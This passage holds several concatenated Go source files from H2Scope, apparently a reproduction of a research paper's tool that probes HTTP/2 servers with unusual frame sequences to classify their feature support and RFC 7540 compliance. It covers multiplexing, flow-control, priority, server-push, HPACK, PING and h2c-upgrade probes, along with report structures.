// ProbeMultiplexing issues N concurrent large downloads and checks whether
// the response DATA frames interleave.
func (p *Prober) ProbeMultiplexing(ctx context.Context, n int) (*MultiplexResult, error) {
	defer p.phase("multiplexing")()
	if n > len(p.cfg.LargePaths) {
		n = len(p.cfg.LargePaths)
	}
	if n < 2 {
		return nil, fmt.Errorf("core: multiplexing probe needs >= 2 large objects, have %d", n)
	}
	c, err := p.connect(ctx, h2conn.DefaultOptions())
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	ev, err := c.WaitSettings(p.cfg.Timeout)
	if err != nil {
		return nil, err
	}
	// Section III-A.1: N must stay below the server's advertised
	// SETTINGS_MAX_CONCURRENT_STREAMS, or refused streams would masquerade
	// as missing multiplexing.
	for _, s := range ev.Settings {
		if s.ID == frame.SettingMaxConcurrentStreams && s.Val >= 2 && int(s.Val) < n {
			n = int(s.Val)
		}
	}
	ids := make([]uint32, 0, n)
	for i := 0; i < n; i++ {
		id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[i]})
		if err != nil {
			return nil, err
		}
		ids = append(ids, id)
	}
	events, _ := c.WaitFor(p.cfg.Timeout, func(evs []h2conn.Event) bool {
		return completedStreams(evs, ids) == len(ids)
	})
	res := &MultiplexResult{Streams: n, Completed: completedStreams(events, ids)}
	// Strictly sequential responses satisfy: sorted by first DATA, each
	// stream's last DATA precedes the next stream's first. Any violation
	// is interleaving.
	resps := make([]*h2conn.Response, 0, len(ids))
	for _, id := range ids {
		r := h2conn.AssembleResponse(events, id)
		if r.FirstDataSeq >= 0 {
			resps = append(resps, r)
		}
	}
	for i := 0; i < len(resps); i++ {
		for j := i + 1; j < len(resps); j++ {
			a, b := resps[i], resps[j]
			if a.FirstDataSeq > b.FirstDataSeq {
				a, b = b, a
			}
			if b.FirstDataSeq < a.LastDataSeq {
				res.Interleaved = true
			}
		}
	}
	return res, nil
}

func completedStreams(events []h2conn.Event, ids []uint32) int {
	done := make(map[uint32]bool)
	for _, e := range events {
		if e.Type == frame.TypeData && e.StreamEnded() {
			done[e.StreamID] = true
		}
		if e.Type == frame.TypeHeaders && e.StreamEnded() {
			done[e.StreamID] = true
		}
		if e.Type == frame.TypeRSTStream {
			done[e.StreamID] = true
		}
	}
	n := 0
	for _, id := range ids {
		if done[id] {
			n++
		}
	}
	return n
}

// TinyWindowClass classifies a server's response under a 1-byte stream
// window (Section V-D.1).
type TinyWindowClass int

// Tiny-window classes, matching the paper's three buckets.
const (
	// TinyWindowOneByte: DATA frames sized exactly to the window (compliant).
	TinyWindowOneByte TinyWindowClass = iota + 1
	// TinyWindowZeroLen: zero-length DATA frames.
	TinyWindowZeroLen
	// TinyWindowNothing: no response at all.
	TinyWindowNothing
)

// String names the class.
func (t TinyWindowClass) String() string {
	switch t {
	case TinyWindowOneByte:
		return "1-byte DATA"
	case TinyWindowZeroLen:
		return "0-length DATA"
	case TinyWindowNothing:
		return "no response"
	default:
		return "unknown"
	}
}

// FlowDataResult reports the DATA-frame flow-control probe.
type FlowDataResult struct {
	// WindowSize is the S_frame the probe advertised.
	WindowSize uint32
	// Class is the observed behavior bucket.
	Class TinyWindowClass
	// FirstDataLen is the payload size of the first DATA frame (-1 none).
	FirstDataLen int
	// GotHeaders reports whether response headers arrived.
	GotHeaders bool
}

// ProbeFlowControlData sets SETTINGS_INITIAL_WINDOW_SIZE to windowSize
// (the paper uses 1) and classifies the response (Section III-B.1).
func (p *Prober) ProbeFlowControlData(ctx context.Context, windowSize uint32) (*FlowDataResult, error) {
	defer p.phase("flow-data")()
	opts := h2conn.Options{
		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: windowSize}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[0]})
	if err != nil {
		return nil, err
	}
	events, _ := c.WaitFor(p.reactionWindow(), func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeData && e.StreamID == id {
				return true
			}
		}
		return false
	})
	resp := h2conn.AssembleResponse(events, id)
	res := &FlowDataResult{WindowSize: windowSize, FirstDataLen: -1, GotHeaders: resp.HeadersSeq >= 0}
	switch {
	case len(resp.DataFrameSizes) == 0:
		res.Class = TinyWindowNothing
	case resp.DataFrameSizes[0] == 0:
		res.Class = TinyWindowZeroLen
		res.FirstDataLen = 0
	default:
		res.Class = TinyWindowOneByte
		res.FirstDataLen = resp.DataFrameSizes[0]
	}
	return res, nil
}

// ZeroWindowHeadersResult reports the zero-initial-window probe
// (Section III-B.2).
type ZeroWindowHeadersResult struct {
	// GotHeaders reports whether the server returned HEADERS despite the
	// zero DATA window — the RFC-compliant behavior.
	GotHeaders bool
	// GotData reports whether the server (incorrectly) sent nonempty DATA.
	GotData bool
}

// ProbeZeroWindowHeaders sets SETTINGS_INITIAL_WINDOW_SIZE to 0 and checks
// whether HEADERS still arrive.
func (p *Prober) ProbeZeroWindowHeaders(ctx context.Context) (*ZeroWindowHeadersResult, error) {
	defer p.phase("zero-window-headers")()
	opts := h2conn.Options{
		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[0]})
	if err != nil {
		return nil, err
	}
	events, _ := c.WaitFor(p.reactionWindow(), func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeHeaders && e.StreamID == id {
				return true
			}
		}
		return false
	})
	res := &ZeroWindowHeadersResult{}
	for _, e := range events {
		if e.StreamID != id {
			continue
		}
		switch e.Type {
		case frame.TypeHeaders:
			res.GotHeaders = true
		case frame.TypeData:
			if len(e.Data) > 0 {
				res.GotData = true
			}
		}
	}
	return res, nil
}

// WindowUpdateResult reports the zero / large WINDOW_UPDATE probes
// (Sections III-B.3 and III-B.4).
type WindowUpdateResult struct {
	// Stream and Conn are the observations at the two levels.
	Stream Observation
	Conn   Observation
	// ConnDebugData is the GOAWAY debug text, when present (the paper
	// found 26/42 sites explaining "the window update shouldn't be zero").
	ConnDebugData string
}

// ProbeZeroWindowUpdate sends WINDOW_UPDATE frames with increment 0 at the
// stream and connection levels (fresh connection each) and classifies the
// reactions.
func (p *Prober) ProbeZeroWindowUpdate(ctx context.Context) (*WindowUpdateResult, error) {
	defer p.phase("zero-window-update")()
	return p.probeWindowUpdate(ctx, func(c *h2conn.Conn, streamID uint32) error {
		return c.WriteWindowUpdate(streamID, 0)
	})
}

// ProbeLargeWindowUpdate sends WINDOW_UPDATE frames whose sum exceeds
// 2^31-1 at both levels and classifies the reactions.
func (p *Prober) ProbeLargeWindowUpdate(ctx context.Context) (*WindowUpdateResult, error) {
	defer p.phase("large-window-update")()
	return p.probeWindowUpdate(ctx, func(c *h2conn.Conn, streamID uint32) error {
		if err := c.WriteWindowUpdate(streamID, frame.MaxWindowSize); err != nil {
			return err
		}
		return c.WriteWindowUpdate(streamID, frame.MaxWindowSize)
	})
}

func (p *Prober) probeWindowUpdate(ctx context.Context, provoke func(*h2conn.Conn, uint32) error) (*WindowUpdateResult, error) {
	res := &WindowUpdateResult{}

	// Stream level: the stream must be open and flow-blocked, so request a
	// large object without automatic window refills.
	opts := h2conn.Options{AutoSettingsAck: true, AutoPingAck: true}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		closeConn(c)
		return nil, err
	}
	id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[0]})
	if err != nil {
		closeConn(c)
		return nil, err
	}
	// Let the response start so the provocation hits a live stream.
	_, _ = c.WaitFor(p.reactionWindow(), func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.StreamID == id && (e.Type == frame.TypeHeaders || e.Type == frame.TypeData) {
				return true
			}
		}
		return false
	})
	if err := provoke(c, id); err != nil {
		closeConn(c)
		return nil, err
	}
	res.Stream = classifyReaction(c, id, p.reactionWindow())
	closeConn(c)

	// Connection level, on a fresh connection.
	c, err = p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	if _, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.LargePaths[0]}); err != nil {
		return nil, err
	}
	if err := provoke(c, 0); err != nil {
		return nil, err
	}
	res.Conn = classifyReaction(c, 0, p.reactionWindow())
	res.ConnDebugData = goAwayDebug(c.Events())
	return res, nil
}

// PushResult reports the server-push probe (Sections III-D and V-F).
type PushResult struct {
	// Supported reports whether any PUSH_PROMISE arrived.
	Supported bool
	// PromisedPaths lists the :path values of the promised requests.
	PromisedPaths []string
}

// ProbeServerPush enables push, browses the configured pages, and records
// PUSH_PROMISE frames.
func (p *Prober) ProbeServerPush(ctx context.Context) (*PushResult, error) {
	defer p.phase("server-push")()
	opts := h2conn.DefaultOptions()
	opts.Settings = []frame.Setting{{ID: frame.SettingEnablePush, Val: 1}}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	res := &PushResult{}
	for _, page := range p.cfg.PagePaths {
		if _, err := c.FetchBody(h2conn.Request{Authority: p.cfg.Authority, Path: page}, p.cfg.Timeout); err != nil {
			continue
		}
	}
	events := c.WaitQuiet(p.cfg.QuietWindow, p.cfg.Timeout)
	for _, e := range events {
		if e.Type != frame.TypePushPromise {
			continue
		}
		res.Supported = true
		for _, hf := range e.Headers {
			if hf.Name == ":path" {
				res.PromisedPaths = append(res.PromisedPaths, hf.Value)
			}
		}
	}
	return res, nil
}

// HPACKResult reports the header-compression probe (Section III-E).
type HPACKResult struct {
	// Requests is H, the number of identical requests sent.
	Requests int
	// BlockSizes lists the response header block sizes in order.
	BlockSizes []int
	// Ratio is r = sum(S_i) / (S_1 * H); small means effective compression.
	Ratio float64
}

// ProbeHPACK sends H identical requests and computes the compression ratio
// over the response header block sizes.
func (p *Prober) ProbeHPACK(ctx context.Context) (*HPACKResult, error) {
	defer p.phase("hpack")()
	h := p.cfg.HPACKRequests
	if h < 2 {
		h = 8
	}
	c, err := p.connect(ctx, h2conn.DefaultOptions())
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	req := h2conn.Request{
		Authority: p.cfg.Authority,
		Path:      p.cfg.SmallPath,
		Extra: []hpack.HeaderField{
			{Name: "user-agent", Value: "H2Scope/1.0 (reproduction)"},
			{Name: "accept", Value: "text/html,application/xhtml+xml"},
			{Name: "accept-language", Value: "en-US,en;q=0.9"},
		},
	}
	res := &HPACKResult{Requests: h}
	total := 0
	for i := 0; i < h; i++ {
		resp, err := c.FetchBody(req, p.cfg.Timeout)
		if err != nil {
			return nil, fmt.Errorf("core: hpack request %d: %w", i+1, err)
		}
		if resp.HeaderBlockLen == 0 {
			return nil, fmt.Errorf("core: hpack request %d: empty header block", i+1)
		}
		res.BlockSizes = append(res.BlockSizes, resp.HeaderBlockLen)
		total += resp.HeaderBlockLen
	}
	res.Ratio = float64(total) / (float64(res.BlockSizes[0]) * float64(h))
	return res, nil
}

// PingResult reports the HTTP/2 PING probe (Section III-F).
type PingResult struct {
	// Supported reports whether PING ACKs arrived.
	Supported bool
	// RTTs holds one sample per successful ping.
	RTTs []time.Duration
}

// Min returns the smallest RTT sample, or 0.
func (r *PingResult) Min() time.Duration {
	var best time.Duration
	for _, d := range r.RTTs {
		if best == 0 || d < best {
			best = d
		}
	}
	return best
}

// ProbePing sends PING frames and measures RTTs.
func (p *Prober) ProbePing(ctx context.Context) (*PingResult, error) {
	defer p.phase("ping")()
	n := p.cfg.PingSamples
	if n < 1 {
		n = 3
	}
	c, err := p.connect(ctx, h2conn.DefaultOptions())
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	res := &PingResult{}
	for i := 0; i < n; i++ {
		var payload [8]byte
		payload[0] = byte(i + 1)
		payload[7] = 0x5c
		rtt, err := c.Ping(payload, p.cfg.Timeout)
		if err != nil {
			continue
		}
		res.Supported = true
		res.RTTs = append(res.RTTs, rtt)
	}
	return res, nil
}

// SelfDependencyResult reports the self-dependent-stream probe
// (Section III-C.2).
type SelfDependencyResult struct {
	// Reaction is the observed server behavior; RFC 7540 calls for
	// RST_STREAM.
	Reaction Observation
}

// ProbeSelfDependency sends PRIORITY making a stream depend on itself.
func (p *Prober) ProbeSelfDependency(ctx context.Context) (*SelfDependencyResult, error) {
	defer p.phase("self-dependency")()
	c, err := p.connect(ctx, h2conn.DefaultOptions())
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}
	id := c.NextStreamID()
	if err := c.WritePriority(id, frame.PriorityParam{StreamDep: id, Weight: 15}); err != nil {
		return nil, err
	}
	return &SelfDependencyResult{Reaction: classifyReaction(c, id, p.reactionWindow())}, nil
}

func closeConn(c *h2conn.Conn) {
	_ = c.Close()
}

// MarshalJSON renders the class as its Section V-D bucket name.
func (t TinyWindowClass) MarshalJSON() ([]byte, error) {
	return []byte(strconv.Quote(t.String())), nil
}

// UnmarshalJSON parses the bucket name back into a TinyWindowClass.
func (t *TinyWindowClass) UnmarshalJSON(data []byte) error {
	s, err := strconv.Unquote(string(data))
	if err != nil {
		return fmt.Errorf("core: tiny-window class %s: %w", data, err)
	}
	for _, cand := range []TinyWindowClass{TinyWindowOneByte, TinyWindowZeroLen, TinyWindowNothing} {
		if cand.String() == s {
			*t = cand
			return nil
		}
	}
	return fmt.Errorf("core: unknown tiny-window class %q", s)
}
