// Package core implements H2Scope, the paper's probing methodology
// (Section III): a battery of probes that send deliberately unusual frame
// sequences to an HTTP/2 server and classify its feature support and RFC
// 7540 compliance from the frame-level reactions.
//
// Each probe runs on a fresh connection, because most probes hinge on
// connection-scoped state (client SETTINGS, the connection flow-control
// window, the HPACK dynamic table). The full battery is assembled into a
// Report, one row of the paper's Table III.
package core

import (
	"context"
	"errors"
	"fmt"
	"net"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/trace"
)

// Dialer opens transport connections to the probe target.
type Dialer interface {
	Dial() (net.Conn, error)
}

// DialerFunc adapts a function to the Dialer interface.
type DialerFunc func() (net.Conn, error)

// Dial implements Dialer.
func (f DialerFunc) Dial() (net.Conn, error) { return f() }

// Negotiator optionally reports TLS protocol-negotiation support, for
// targets fronted by a TLS layer (Section IV-A).
type Negotiator interface {
	// NegotiateALPN returns the protocol the server selects via ALPN.
	NegotiateALPN(protos []string) (string, error)
	// NegotiateNPN returns the server's advertised NPN protocol list.
	NegotiateNPN() ([]string, error)
}

// Observation classifies how a server reacted to a probe frame.
type Observation int

// Observations mirror the vocabulary of the paper's Table III.
const (
	// ObserveIgnore means the server kept the connection open and sent no
	// error frame.
	ObserveIgnore Observation = iota + 1
	// ObserveRSTStream means the server reset the affected stream.
	ObserveRSTStream
	// ObserveGoAway means the server sent GOAWAY.
	ObserveGoAway
	// ObserveNoResponse means the connection produced nothing (including
	// dying without GOAWAY).
	ObserveNoResponse
)

// String renders the observation the way Table III does.
func (o Observation) String() string {
	switch o {
	case ObserveIgnore:
		return "ignore"
	case ObserveRSTStream:
		return "RST_STREAM"
	case ObserveGoAway:
		return "GOAWAY"
	case ObserveNoResponse:
		return "no response"
	default:
		return "unknown"
	}
}

// Config parameterizes a probe battery against one target.
type Config struct {
	// Authority is the :authority of requests.
	Authority string
	// Timeout bounds each wait inside a probe.
	Timeout time.Duration
	// QuietWindow is how long the event log must stay idle before a probe
	// concludes a server will not react.
	QuietWindow time.Duration
	// DrainPath is an object of at least 65,535 bytes used to deplete the
	// connection-level flow-control window (Algorithm 1, lines 15-16).
	DrainPath string
	// LargePaths are large objects for the multiplexing and priority
	// probes; at least six are needed.
	LargePaths []string
	// SmallPath is a small page used for settings/HPACK/ping probes.
	SmallPath string
	// PagePaths are the pages browsed by the server-push probe.
	PagePaths []string
	// HPACKRequests is H, the number of identical requests in the header
	// compression probe.
	HPACKRequests int
	// PingSamples is the number of PING RTT samples to collect.
	PingSamples int
	// Tracer, when non-nil, records every probe connection's frames plus
	// probe-phase annotations, so a trace shows which probe step each
	// frame belongs to. Nil disables tracing with no overhead.
	Tracer *trace.Tracer
	// Metrics, when non-nil, is attached to every connection the battery
	// dials (frames, bytes, streams, resets — see h2conn.NewMetrics). Nil
	// disables metrics with no overhead.
	Metrics *h2conn.Metrics
}

// DefaultConfig returns a config matched to server.DefaultSite's document
// tree.
func DefaultConfig(authority string) Config {
	return Config{
		Authority:   authority,
		Timeout:     5 * time.Second,
		QuietWindow: 40 * time.Millisecond,
		DrainPath:   "/drain/64k",
		LargePaths: []string{
			"/large/1", "/large/2", "/large/3",
			"/large/4", "/large/5", "/large/6",
		},
		SmallPath:     "/about.html",
		PagePaths:     []string{"/", "/about.html"},
		HPACKRequests: 8,
		PingSamples:   3,
	}
}

// Prober runs the H2Scope probe battery.
type Prober struct {
	dialer Dialer
	cfg    Config
}

// NewProber returns a prober for the target reachable through dialer.
func NewProber(dialer Dialer, cfg Config) *Prober {
	if cfg.Timeout == 0 {
		cfg.Timeout = 5 * time.Second
	}
	if cfg.QuietWindow == 0 {
		cfg.QuietWindow = 40 * time.Millisecond
	}
	return &Prober{dialer: dialer, cfg: cfg}
}

// phase marks a probe phase on the battery's tracer (a no-op without one)
// and returns the closer; probes use `defer p.phase("name")()`.
func (p *Prober) phase(name string) func() {
	return p.cfg.Tracer.Phase(name)
}

// connect dials and establishes an HTTP/2 connection with the given client
// options. The battery's tracer, when set, is attached to every connection
// here — the single point all probes dial through. A deadline carried by
// ctx is applied to the transport before the HTTP/2 handshake, so a probe
// against a tarpit target fails instead of wedging its worker.
func (p *Prober) connect(ctx context.Context, opts h2conn.Options) (*h2conn.Conn, error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	if opts.Tracer == nil {
		opts.Tracer = p.cfg.Tracer
	}
	if opts.Metrics == nil {
		opts.Metrics = p.cfg.Metrics
	}
	// Reserve the trace connection ID before dialing so the dial region
	// (and any TLS-handshake region the dialer itself emits) is attributed
	// to the connection the frames will belong to.
	if opts.Tracer != nil && opts.TraceConnID == 0 {
		opts.TraceConnID = opts.Tracer.ConnID()
	}
	endDial := opts.Tracer.Region(opts.TraceConnID, "dial")
	nc, err := p.dialer.Dial()
	endDial()
	if err != nil {
		return nil, fmt.Errorf("core: dial: %w", err)
	}
	if d, ok := ctx.Deadline(); ok {
		if err := nc.SetDeadline(d); err != nil {
			_ = nc.Close()
			return nil, fmt.Errorf("core: set deadline: %w", err)
		}
	}
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		_ = nc.Close()
		return nil, err
	}
	return c, nil
}

// reactionWindow is how long a probe listens for an error frame after a
// provocation before concluding the server ignored it.
func (p *Prober) reactionWindow() time.Duration {
	w := 5 * p.cfg.QuietWindow
	if w < 100*time.Millisecond {
		w = 100 * time.Millisecond
	}
	return w
}

// classifyReaction inspects events after a provocation and maps them to an
// Observation. streamID scopes RST_STREAM matching; GOAWAY always counts.
func classifyReaction(c *h2conn.Conn, streamID uint32, window time.Duration) Observation {
	events, err := c.WaitFor(window, func(evs []h2conn.Event) bool {
		return reactionIn(evs, streamID) != 0
	})
	if o := reactionIn(events, streamID); o != 0 {
		return o
	}
	if errors.Is(err, h2conn.ErrConnClosed) {
		// Connection died without an error frame.
		return ObserveNoResponse
	}
	return ObserveIgnore
}

func reactionIn(events []h2conn.Event, streamID uint32) Observation {
	for _, e := range events {
		switch e.Type {
		case frame.TypeGoAway:
			return ObserveGoAway
		case frame.TypeRSTStream:
			if streamID == 0 || e.StreamID == streamID {
				return ObserveRSTStream
			}
		}
	}
	return 0
}

// GoAwayDebug returns the debug data of the first GOAWAY in the log.
func goAwayDebug(events []h2conn.Event) string {
	for _, e := range events {
		if e.Type == frame.TypeGoAway {
			return string(e.DebugData)
		}
	}
	return ""
}
