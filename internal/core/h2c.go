package core

import (
	"context"
	"fmt"
	"net"

	"h2scope/internal/h2conn"
	"h2scope/internal/http1"
)

// H2CResult reports the cleartext-upgrade detection of Section IV-A: when
// no TLS is used, a client sends an HTTP/1.1 request with "Upgrade: h2c"
// and a server that supports HTTP/2 answers 101 Switching Protocols.
type H2CResult struct {
	// UpgradeAccepted reports whether the server answered 101.
	UpgradeAccepted bool
	// H2Works reports whether an HTTP/2 request succeeded on the upgraded
	// connection.
	H2Works bool
}

// ProbeH2CUpgrade performs the cleartext upgrade handshake against the
// target and, if accepted, verifies HTTP/2 works on the connection.
func (p *Prober) ProbeH2CUpgrade(ctx context.Context) (*H2CResult, error) {
	defer p.phase("h2c-upgrade")()
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	nc, err := p.dialer.Dial()
	if err != nil {
		return nil, fmt.Errorf("core: dial: %w", err)
	}
	if d, ok := ctx.Deadline(); ok {
		if err := nc.SetDeadline(d); err != nil {
			_ = nc.Close()
			return nil, fmt.Errorf("core: set deadline: %w", err)
		}
	}
	res := &H2CResult{}
	if err := http1.UpgradeH2C(nc, p.cfg.Authority); err != nil {
		_ = nc.Close()
		return res, nil // refusal is a result, not a probe failure
	}
	res.UpgradeAccepted = true
	res.H2Works = p.verifyH2(nc)
	return res, nil
}

func (p *Prober) verifyH2(nc net.Conn) bool {
	c, err := h2conn.Dial(nc, h2conn.DefaultOptions())
	if err != nil {
		_ = nc.Close()
		return false
	}
	defer closeConn(c)
	resp, err := c.FetchBody(h2conn.Request{
		Authority: p.cfg.Authority,
		Scheme:    "http",
		Path:      p.cfg.SmallPath,
	}, p.cfg.Timeout)
	return err == nil && resp.Status() == "200"
}
