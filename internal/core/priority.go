package core

import (
	"context"
	"fmt"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// PriorityResult reports Algorithm 1, the paper's priority-mechanism probe
// (Section III-C.1, evaluated in Section V-E).
type PriorityResult struct {
	// DrainStreams is how many downloads were needed to deplete the
	// 65,535-octet connection window (Algorithm 1's callback computes this).
	DrainStreams int
	// HeadersWhileBlocked reports whether the server returned HEADERS for
	// the test streams while the connection window was zero; the paper
	// observes some servers (LiteSpeed-style) withhold even HEADERS.
	HeadersWhileBlocked bool
	// Completed is how many of the six test streams finished after the
	// window reopened.
	Completed int
	// LastRuleOK: the order of each stream's *last* DATA frame matches the
	// dependency tree (the paper's primary criterion, 1,147/2,187 sites).
	LastRuleOK bool
	// FirstRuleOK: the order of each stream's *first* DATA frame matches
	// the tree (46/117 sites).
	FirstRuleOK bool
	// Pass is the Table III verdict: both orders obey the tree.
	Pass bool
}

// streamLabels in the RFC 7540 section 5.3.3 example, in open order.
var streamLabels = [...]string{"A", "B", "C", "D", "E", "F"}

// ProbePriority implements Algorithm 1:
//
//  1. advertise a huge SETTINGS_INITIAL_WINDOW_SIZE so stream windows never
//     interfere (lines 2-6),
//  2. deplete the 65,535-octet connection-level window by downloading
//     objects, then reset those streams (lines 9-21),
//  3. open six requests forming the RFC 7540 section 5.3.3 example tree and
//     reprioritize with a PRIORITY frame while no DATA can flow (lines 22-28),
//  4. reopen the connection window with WINDOW_UPDATE and infer priority
//     support from the order of DATA frames (line 30).
func (p *Prober) ProbePriority(ctx context.Context) (*PriorityResult, error) {
	defer p.phase("priority")()
	opts := h2conn.Options{
		Settings: []frame.Setting{
			{ID: frame.SettingInitialWindowSize, Val: frame.MaxWindowSize},
		},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := p.connect(ctx, opts)
	if err != nil {
		return nil, err
	}
	defer closeConn(c)
	if _, err := c.WaitSettings(p.cfg.Timeout); err != nil {
		return nil, err
	}

	res := &PriorityResult{}

	// --- Step 1: deplete the connection window. ---
	drainTarget := frame.DefaultInitialWindowSize // 65,535 octets
	var drainIDs []uint32
	for attempt := 0; attempt < 6 && dataTotal(c.Events(), drainIDs) < drainTarget; attempt++ {
		id, err := c.OpenStream(h2conn.Request{Authority: p.cfg.Authority, Path: p.cfg.DrainPath})
		if err != nil {
			return nil, err
		}
		drainIDs = append(drainIDs, id)
		res.DrainStreams++
		_, _ = c.WaitFor(p.cfg.Timeout, func(evs []h2conn.Event) bool {
			if dataTotal(evs, drainIDs) >= drainTarget {
				return true
			}
			// The stream ended early (small object or RST): move on.
			return streamDone(evs, id)
		})
	}
	if got := dataTotal(c.Events(), drainIDs); got < drainTarget {
		return nil, fmt.Errorf("core: could not deplete connection window: drained %d of %d octets", got, drainTarget)
	}
	// Reset the drain streams so they cannot interfere (Algorithm 1 line 21).
	for _, id := range drainIDs {
		if err := c.WriteRSTStream(id, frame.ErrCodeCancel); err != nil {
			return nil, err
		}
	}

	// --- Step 2: build the RFC 7540 section 5.3.3 dependency tree. ---
	// Initial tree: A at the root; B, C depend on A; D, E depend on C;
	// F depends on D.
	ids := make(map[string]uint32, len(streamLabels))
	for _, label := range streamLabels {
		ids[label] = c.NextStreamID()
	}
	deps := map[string]string{"A": "", "B": "A", "C": "A", "D": "C", "E": "C", "F": "D"}
	for _, label := range streamLabels {
		var dep uint32
		if parent := deps[label]; parent != "" {
			dep = ids[parent]
		}
		err := c.OpenStreamID(ids[label], h2conn.Request{
			Authority: p.cfg.Authority,
			Path:      p.cfg.LargePaths[labelIndex(label)],
			Priority:  frame.PriorityParam{StreamDep: dep, Weight: 15},
		})
		if err != nil {
			return nil, err
		}
	}

	// Reprioritize: A becomes exclusively dependent on D. Per RFC 7540
	// section 5.3.3, D first moves up to A's old parent (the root), then A
	// adopts D's children. Final tree: root→D→A→{B,C,F}, C→E.
	if err := c.WritePriority(ids["A"], frame.PriorityParam{
		StreamDep: ids["D"],
		Exclusive: true,
		Weight:    15,
	}); err != nil {
		return nil, err
	}

	// While the connection window is still depleted, note whether HEADERS
	// arrive for the blocked test streams (Section V-D observation).
	blockedEvents := c.WaitQuiet(p.cfg.QuietWindow, p.reactionWindow())
	for _, label := range streamLabels {
		if h2conn.AssembleResponse(blockedEvents, ids[label]).HeadersSeq >= 0 {
			res.HeadersWhileBlocked = true
		}
	}

	// --- Step 3: reopen the connection window and observe the order. ---
	if err := c.WriteWindowUpdate(0, frame.MaxWindowSize); err != nil {
		return nil, err
	}
	testIDs := make([]uint32, 0, len(streamLabels))
	for _, label := range streamLabels {
		testIDs = append(testIDs, ids[label])
	}
	events, _ := c.WaitFor(p.cfg.Timeout, func(evs []h2conn.Event) bool {
		return completedStreams(evs, testIDs) == len(testIDs)
	})
	res.Completed = completedStreams(events, testIDs)

	first := make(map[string]int, len(streamLabels))
	last := make(map[string]int, len(streamLabels))
	for _, label := range streamLabels {
		r := h2conn.AssembleResponse(events, ids[label])
		first[label] = r.FirstDataSeq
		last[label] = r.LastDataSeq
	}
	res.LastRuleOK = priorityOrderOK(last)
	res.FirstRuleOK = priorityOrderOK(first)
	res.Pass = res.LastRuleOK && res.FirstRuleOK
	return res, nil
}

func labelIndex(label string) int {
	for i, l := range streamLabels {
		if l == label {
			return i
		}
	}
	return 0
}

// priorityOrderOK checks the paper's expectation against the final tree
// root→D→A→{B,C,F}, C→E, over either the first- or last-DATA positions:
//
//   - stream D's frames precede every other stream's,
//   - stream A's frames precede all but D's,
//   - stream C's frames precede stream E's.
func priorityOrderOK(pos map[string]int) bool {
	for _, p := range pos {
		if p < 0 {
			return false
		}
	}
	for _, other := range []string{"A", "B", "C", "E", "F"} {
		if pos["D"] >= pos[other] {
			return false
		}
	}
	for _, other := range []string{"B", "C", "E", "F"} {
		if pos["A"] >= pos[other] {
			return false
		}
	}
	return pos["C"] < pos["E"]
}

// dataTotal sums DATA payload bytes across the given streams (all streams
// when ids is empty).
func dataTotal(events []h2conn.Event, ids []uint32) int {
	want := make(map[uint32]bool, len(ids))
	for _, id := range ids {
		want[id] = true
	}
	total := 0
	for _, e := range events {
		if e.Type != frame.TypeData {
			continue
		}
		if len(ids) > 0 && !want[e.StreamID] {
			continue
		}
		total += len(e.Data)
	}
	return total
}

func streamDone(events []h2conn.Event, id uint32) bool {
	for _, e := range events {
		if e.StreamID != id {
			continue
		}
		if e.StreamEnded() || e.Type == frame.TypeRSTStream {
			return true
		}
	}
	return false
}
