package core

import (
	"context"
	"fmt"
	"strconv"
	"time"
)

// Report is the full H2Scope battery result for one target — one column of
// the paper's Table III.
type Report struct {
	// Authority names the target.
	Authority string

	// ALPN and NPN are negotiation results when a Negotiator was supplied;
	// nil otherwise.
	ALPN *bool
	NPN  *bool

	Settings          *SettingsResult
	Multiplex         *MultiplexResult
	FlowData          *FlowDataResult
	ZeroWindowHeaders *ZeroWindowHeadersResult
	ZeroWU            *WindowUpdateResult
	LargeWU           *WindowUpdateResult
	Priority          *PriorityResult
	SelfDep           *SelfDependencyResult
	Push              *PushResult
	HPACK             *HPACKResult
	Ping              *PingResult

	// Errors collects probe failures; a partially probed target still
	// yields a useful report, as in the large-scale measurement.
	Errors []string
}

// Run executes the complete probe battery. Individual probe failures are
// recorded in Report.Errors rather than aborting the battery.
